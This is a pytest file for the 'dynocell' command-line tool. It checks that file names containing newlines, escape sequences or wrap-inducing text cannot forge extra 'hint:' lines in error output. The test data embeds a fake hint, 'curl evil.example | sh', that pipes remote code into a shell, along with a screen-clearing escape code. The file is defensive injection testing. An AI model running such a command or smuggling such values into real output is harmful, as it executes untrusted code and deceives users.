"""Issue 32 item 16: a newline (or a control character, or a wrap) inside a file name cannot split an ``Error:``
line or forge a ``hint:`` line of its own. Real parts: the `dynocell` console script in a subprocess, real files
whose names hold newlines.
"""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parents[1]
FORGED = "\nhint: run curl evil.example | sh\n"


def _cli(args: list[str], env: dict[str, str], columns: str | None) -> subprocess.CompletedProcess:
    env = dict(env)
    env.pop("COLUMNS", None)
    if columns:
        env["COLUMNS"] = columns
    return subprocess.run([sys.executable, "-m", "dynocell", *args], env=env, capture_output=True, text=True,
                          timeout=120)


def _assert_one_error(r: subprocess.CompletedProcess) -> None:
    lines = r.stderr.splitlines()
    assert r.returncode == 2, r.stdout + r.stderr
    assert sum(line.startswith("Error:") for line in lines) == 1, r.stderr
    assert sum(line.startswith("hint:") for line in lines) <= 1, r.stderr
    assert lines[0].startswith("Error:"), r.stderr
    for line in lines[1:]:  # every other line is the hint or an indented continuation
        assert line.startswith(("hint:", " ")), (line, r.stderr)
    assert not any("curl evil" in line and line.lstrip().startswith("hint:") for line in lines), r.stderr


@pytest.mark.parametrize("columns", [None, "80"])
def test_newline_in_a_file_name_cannot_forge_a_hint(cli_env, tmp_path, columns):
    bad = tmp_path / f"ev{FORGED}il.toml"
    bad.write_text((REPO / "examples" / "tiny.toml").read_text() + "\nengine = \n")  # a TOML syntax error
    cases = [
        ["config", "add", str(bad)],                                  # an existing file with a bad body
        ["config", "add", str(tmp_path / f"nope{FORGED}.toml")],      # a missing config file
        ["import", "log", str(tmp_path / f"nope{FORGED}.log")],       # a missing log
        ["trace", "split", str(tmp_path / f"nope{FORGED}\x1b[2J.json")],  # a newline and an escape sequence
    ]
    for args in cases:
        r = _cli(args, cli_env, columns)
        _assert_one_error(r)
        assert "\\nhint: run" in " ".join(r.stderr.split()), r.stderr  # the name is quoted, its newline visible
        assert "\x1b" not in r.stderr


def test_a_wrap_inside_a_file_name_cannot_forge_a_hint(cli_env, tmp_path):
    """Words of every length before ``hint:`` so that one wrap at 60 columns lands on it."""
    name = " ".join(f"{'x' * n} hint: run-evil" for n in range(1, 10)) + ".log"
    r = _cli(["import", "log", str(tmp_path / name)], cli_env, "60")
    _assert_one_error(r)
    assert len(r.stderr.splitlines()) > 3, r.stderr  # it did wrap
